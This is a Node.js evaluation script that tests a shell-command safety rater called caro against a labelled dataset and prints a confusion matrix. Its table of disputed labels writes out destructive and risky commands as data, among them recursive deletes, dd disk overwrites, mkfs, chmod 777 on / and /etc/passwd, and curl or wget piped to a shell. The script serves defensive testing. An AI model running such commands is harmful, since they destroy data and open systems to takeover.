#!/usr/bin/env node
// Rates every command in the older Rust caro's safety data and compares with its labels.
//   node scripts/safety-eval.mjs [path/to/caro_safety_cases.tsv]   (needs `npm run build` first)
// Prints the confusion matrix, each disagreement judged to be the data's fault with the reason,
// the remaining disagreements, and the time per rating. Exits 1 when a target is missed:
// every critical row caught, and no safe row rated high or critical, except where judged here.

import { existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { rateCommand } from "../dist/safety/rate.js";

const DEFAULT_DATA = fileURLToPath(new URL("../../shared/data/caro_safety_cases.tsv", import.meta.url));
const LEVELS = ["safe", "moderate", "high", "critical"];

const SAME_WIPES =
  "the data rates the same wipes `rm -rf .`, `rm -rf ..` and `rm -rf *` high; emptying the current or parent folder " +
  "is high unless that folder is /, ~ or a system folder, where caro rates it critical from the cwd";
const TEMPORARY =
  "a temporary folder: the data's own README says its engine over-matches `rm /tmp/x`, and it rates `rm -rf " +
  "/tmp/cache` safe";

/** Rows whose label caro judges wrong, and why. */
export const DATA_FAULTS = {
  "rm -rf ./": SAME_WIPES,
  "rm -rf ./*": SAME_WIPES,
  "rm -rf ../": SAME_WIPES,
  "rm -rf ../*": SAME_WIPES,
  "rm -rf ./cache": "a project-local cleanup, at most moderate by the data's README; it rates `rm -rf ./target` safe",
  "rm -rf /tmp/test": TEMPORARY,
  "rm -rf /tmp/other_app": TEMPORARY,
  "rm -rf /data/tmp/*": TEMPORARY,
  "rm -rf ~/backups/db*": "deletes some folders inside the home directory, not the home directory itself: high",
  "Remove-Item -Recurse -Force C:\\temp":
    "a recursive delete of one named temporary folder, not of a drive or system folder: high",
  "curl | bash":
    "the same pattern as `curl https://… | sh`, which the data rates high; without a URL it even downloads nothing",
  "wget -O- | sh": "the same pattern as `wget -O- evil.com | sh`, which the data rates high",
  "systemctl stop firewalld":
    "stopping a firewall destroys nothing and is undone by starting it: high, as the data rates `ufw disable` and " +
    "`iptables -F`",
  "dd if=/dev/zero": "without of= dd writes to standard output: no file or disk is touched",
  "dd if=ubuntu.iso of=/dev/sdb bs=4M status=progress":
    "writes over the whole disk /dev/sdb; the data rates `dd … of=/dev/sda` critical",
  "mkfs.vfat /dev/sdc1": "formats a partition, destroying what is on it; the data rates `mkfs.ext4 /dev/sda1` critical",
  "chmod -R 777 /": "makes every file on the system writable by everyone; the data rates `chmod -R 777 /etc` critical",
  "chmod 777 /": "opens / to every user for writing; the data rates `chmod 777 /etc` critical",
  "chmod 777 /etc/passwd": "lets any user add a root account",
  "chown -R user:group /": "the data rates `chown -R $USER /` critical",
  "dd if=/dev/sda of=/dev/sdb": "writes over the whole disk /dev/sdb",
  "chown user:group file": "changing the owner of one local file destroys nothing",
  "kill -9 <pid>": "`<pid>` is a placeholder, not shell: as written this does not run",
  "git log --follow -p -- <filename>": "`<filename>` is a placeholder, not shell: as written it does not parse",
  "grep rm file.txt": "searches for the text rm; deletes nothing",
};

function readRows(path) {
  return readFileSync(path, "utf8")
    .trim()
    .split("\n")
    .slice(1)
    .map((line) => {
      const [command, expected, note] = line.split("\t");
      return { command, expected, note };
    });
}

async function main() {
  const data = process.argv[2] ?? DEFAULT_DATA;
  if (!existsSync(data)) {
    console.error(
      `safety-eval: no labelled data at ${data}: pass the path of caro_safety_cases.tsv (CI keeps it in ` +
        `../shared/data)`,
    );
    process.exit(2);
  }
  const rows = readRows(data);
  const matrix = Object.fromEntries(LEVELS.map((l) => [l, Object.fromEntries(LEVELS.map((m) => [m, 0]))]));
  const judged = [];
  const others = [];
  const missed = [];
  for (const row of rows) {
    const rating = await rateCommand(row.command, "bash");
    matrix[row.expected][rating.risk]++;
    if (rating.risk === row.expected) continue;
    const entry = { ...row, got: rating.risk, why: rating.reasons[0] ?? "nothing it does is risky" };
    const fault = DATA_FAULTS[row.command];
    if (fault) judged.push({ ...entry, fault });
    else others.push(entry);
    const targetMissed =
      (row.expected === "critical" && rating.risk !== "critical") ||
      (row.expected === "safe" && ["high", "critical"].includes(rating.risk));
    if (targetMissed && !fault) missed.push(entry);
  }

  // Time per rating once warm: the parser and rules are loaded by the pass above.
  const started = performance.now();
  const rounds = 5;
  for (let i = 0; i < rounds; i++) for (const row of rows) await rateCommand(row.command, "bash");
  const perRating = (performance.now() - started) / (rounds * rows.length);

  console.log(`caro's safety rating against ${rows.length} labelled commands\n`);
  console.log(`${"label \\ caro".padEnd(14)}${LEVELS.map((l) => l.padStart(10)).join("")}`);
  for (const l of LEVELS)
    console.log(`${l.padEnd(14)}${LEVELS.map((m) => String(matrix[l][m]).padStart(10)).join("")}`);
  const agree = LEVELS.reduce((n, l) => n + matrix[l][l], 0);
  console.log(`\nagree on ${agree} of ${rows.length}`);
  console.log(`\nDisagreements judged to be the data's fault (${judged.length}):`);
  for (const d of judged) console.log(`  ${d.expected} -> ${d.got}  ${d.command}\n      ${d.fault}`);
  console.log(`\nOther disagreements, caro's call (${others.length}):`);
  for (const d of others) console.log(`  ${d.expected} -> ${d.got}  ${d.command}  (caro: ${d.why})`);
  console.log(`\nrating takes ${perRating.toFixed(3)} ms per command, warm (mean of ${rounds * rows.length})`);
  if (missed.length > 0) {
    console.log(`\nTARGET MISSED on ${missed.length} rows:`);
    for (const d of missed) console.log(`  ${d.expected} -> ${d.got}  ${d.command}`);
    process.exit(1);
  }
  console.log("targets held: every critical row caught, no safe row rated high or critical (judged rows aside)");
}

await main();
